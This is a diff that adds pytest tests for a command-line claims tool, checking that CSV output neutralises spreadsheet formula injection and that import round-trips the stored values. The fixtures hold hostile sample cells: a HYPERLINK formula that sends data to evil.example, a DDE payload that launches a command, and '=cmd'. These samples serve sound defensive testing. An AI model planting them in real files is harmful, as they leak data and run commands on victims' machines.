@@ -6,6 +6,9 @@ import json
 from typing import TYPE_CHECKING
 
 if TYPE_CHECKING:
+    from collections.abc import Callable
+    from pathlib import Path
+
     import pytest
     from click.testing import Result
 
@@ -183,3 +186,54 @@ def test_an_empty_listing_is_silent_piped_and_says_so_on_a_terminal(
     assert shown.stdout.split() == ["ID", "DATE", "SOURCE", "STATUS", "COUNTRIES", "THEMES",
                                     "TEXT"]
     assert shown.stderr == "no claims match\n"
+
+
+# CSV a spreadsheet will not run --------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+EVIL_QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_csv_cells_are_protected_and_kbs_import_round_trips_them(
+        seeded: KB, new_kb: Callable[[], KB], tmp_path: Path) -> None:
+    import csv
+    import io
+
+    new = seeded.ok("claim", "add", "--source", A, "--text", EVIL, "--quote", EVIL_QUOTE,
+                    "--actor", "-Minus Corp").strip()
+    listed = seeded.ok("claim", "list", "--search", "evil", "--format", "csv")
+    exported = seeded.ok("export", "claims", "--format", "csv", "--search", "evil")
+    for text in (listed, exported):
+        (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["id"] == new]
+        assert (row["text"], row["quote"], row["actors"]) == (
+            "'" + EVIL, "'" + EVIL_QUOTE, "'-Minus Corp")
+    # One set of claim columns for every CSV kb writes.
+    assert listed.splitlines()[0] == exported.splitlines()[0]
+    assert {"id", "status"} <= set(listed.splitlines()[0].split(","))
+    raw = seeded.ok("claim", "list", "--search", "evil", "--format", "csv", "--raw")
+    (row,) = csv.DictReader(io.StringIO(raw))
+    assert (row["text"], row["quote"]) == (EVIL, EVIL_QUOTE)
+    raw_export = seeded.ok("export", "claims", "--format", "csv", "--raw")
+    assert EVIL.replace('"', '""') in raw_export
+    # Back in through kb's import: exactly what was stored.
+    path = tmp_path / "claims.csv"
+    path.write_text(exported, encoding="utf-8")
+    other = new_kb()
+    other.ok("source", "add", "--title", "AI News", "--key", A)
+    other.ok("source", "add", "--title", "NPR", "--key", "npr2026china")
+    result = other("import", str(path))
+    assert result.exit_code == 0, result.output
+    rows = json.loads(other.ok("claim", "list", "--actor", "-Minus Corp", "--format", "json"))
+    assert (rows[0]["text"], rows[0]["quote"]) == (EVIL, EVIL_QUOTE)
+
+
+def test_compare_csv_protects_an_actors_name(seeded: KB) -> None:
+    seeded.ok("claim", "add", "--source", A, "--text", "x", "--country", "US", "--actor",
+              "=cmd")
+    out = seeded.ok("compare", "--country", "US", "--country", "CN", "--by", "actor",
+                    "--format", "csv")
+    assert "'=cmd" in out.splitlines()[1:][0] or any(
+        line.startswith("'=cmd") for line in out.splitlines())
+    raw = seeded.ok("compare", "--country", "US", "--country", "CN", "--by", "actor",
+                    "--format", "csv", "--raw")
+    assert any(line.startswith("=cmd") for line in raw.splitlines())
